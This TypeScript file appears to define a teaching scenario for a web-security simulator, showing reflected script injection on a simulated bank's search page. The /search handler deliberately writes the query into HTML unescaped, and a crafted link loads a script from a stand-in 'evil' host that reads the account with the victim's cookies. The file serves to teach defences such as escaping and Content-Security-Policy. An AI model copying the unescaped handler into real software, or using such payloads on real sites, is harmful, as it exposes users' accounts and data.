import { html } from "../world/html.ts";
import type { Story } from "../world/story.ts";
import { bankCast } from "./bank-api.ts";

const signedIn = { at: "{api}/lab/enter?user=ada" };
const injected = "{app}/search?q=%3Cscript%20src%3D%22{evil}/lab/play.js%22%3E%3C/script%3E";

export const scriptInjection: Story = {
  name: "script-injection",
  title: "Script injection on a trusted origin",
  summary:
    "The bank’s page writes what was searched for into its markup as it is. A link with a script in it makes the attacker’s script run on the trusted origin.",
  claims: [
    {
      text: "CORS, or a policy on the server, protects against cross-site scripting.",
      verdict: "wrong",
      because:
        "The injected script is the trusted page: same origin, same cookies, same grants. Escape the output, and send a Content-Security-Policy.",
      requirements: ["R51", "R33"],
    },
  ],
  roles: {
    app: { host: "app.bank", title: "The bank" },
    api: { host: "api.bank", title: "The bank’s API" },
    evil: { host: "evil", title: "The attacker’s server" },
  },
  protects: ["api"],
  allowlist: (originOf) => ({ origin: [originOf("app")] }),
  policy: (originOf) => ({
    sallyport: 1,
    self: [originOf("api")],
    origins: { app: [originOf("app")] },
    resources: [{ path: "/accounts/:id", share: { with: ["app"], methods: ["GET"], credentials: true } }],
  }),
  cast: () => {
    const bank = bankCast();
    return {
      ...bank,
      servers: {
        ...bank.servers,
        app: {
          handle: ({ path, fields }) => {
            const query = fields.get("q") ?? "";
            const headers = { "content-type": "text/html; charset=utf-8" };
            if (path === "/search")
              return { headers, body: `<!doctype html><title>Search</title><p>Nothing found for ${query}</p>` };
            if (path !== "/careful") return undefined;
            return {
              headers,
              body: String(
                html`<!doctype html><title>Search</title>
                  <p>Nothing found for ${query}</p>`,
              ),
            };
          },
        },
      },
    };
  },
  attempts: [
    {
      name: "reads-account",
      title: "The injected script reads the account",
      kind: "attack",
      lesson: "Where the app may read, so may a script that runs in it. The policy cannot tell them apart.",
      stages: [
        signedIn,
        { at: injected, actions: [{ do: "fetch", to: "{api}/accounts/ada", credentials: "include" }] },
      ],
      after: {
        otherwise: { page: "read 200", state: { reads: 1 } },
        none: { page: "blocked", state: { reads: 1 } },
        wildcard: { page: "blocked", state: { reads: 1 } },
      },
    },
  ],
};
